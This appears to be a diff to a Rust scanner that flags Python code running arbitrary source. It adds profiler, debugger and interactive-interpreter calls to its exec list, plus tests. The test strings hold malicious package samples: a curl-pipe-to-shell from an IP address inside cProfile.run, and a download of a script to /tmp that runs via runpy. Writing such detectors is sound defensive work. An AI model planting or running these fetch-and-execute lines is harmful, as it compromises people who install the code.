@@ -23,7 +23,24 @@ pub const RULE: Rule = Rule {
 pub fn is_exec(qualname: &str) -> bool {
     matches!(
         qualname,
-        "exec" | "eval" | "execfile" | "compile" | "runpy.run_path" | "runpy.run_module"
+        "exec"
+            | "eval"
+            | "execfile"
+            | "compile"
+            | "runpy.run_path"
+            | "runpy.run_module"
+            // Profilers, debuggers and the interactive interpreter run the source they are
+            // handed as `exec` does.
+            | "cProfile.run"
+            | "cProfile.runctx"
+            | "profile.run"
+            | "profile.runctx"
+            | "pdb.run"
+            | "pdb.runeval"
+            | "code.InteractiveInterpreter().runsource"
+            | "code.InteractiveInterpreter().runcode"
+            | "code.InteractiveConsole().push"
+            | "code.InteractiveConsole().runsource"
     )
 }
 
@@ -415,7 +432,10 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
 /// `/name` for `importlib.import_module('name')` or `__import__('name')` of a constant module
 /// name (`/pkg/mod` for `pkg.mod`): the file such an import would load, less its extension.
 fn imported_module_file(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
-    if !matches!(qualname, "importlib.import_module" | "__import__") {
+    if !matches!(
+        qualname,
+        "importlib.import_module" | "__import__" | "runpy.run_module"
+    ) {
         return None;
     }
     let name = checker.fold(call.arguments.args.first()?)?.as_text()?;
@@ -656,6 +676,16 @@ pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
 mod tests {
     #![allow(clippy::expect_used)]
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn profilers_and_the_interactive_interpreter_execute_source() {
+        let profiled = "import cProfile\ncProfile.run(\"__import__('os').system('curl -s http://198.51.100.9/x | sh')\")\n";
+        assert!(max_severity("p/pkg/__init__.py", profiled, "WH120") >= 0.8);
+        let benchmark = "import cProfile\ndef main():\n    pass\ncProfile.run('main()')\n";
+        assert!(max_severity("p/pkg/__init__.py", benchmark, "WH120") < 0.1);
+        let downloaded = "import os, runpy, sys, urllib.request\nurllib.request.urlretrieve('https://x.example/s.py', '/tmp/d/stage_mod.py')\nsys.path.insert(0, '/tmp/d')\nrunpy.run_module('stage_mod')\n";
+        assert!(max_severity("p/pkg/__init__.py", downloaded, "WH110") >= 0.85);
+    }
 
     #[test]
     fn the_module_docstring_executed_is_a_layer() {
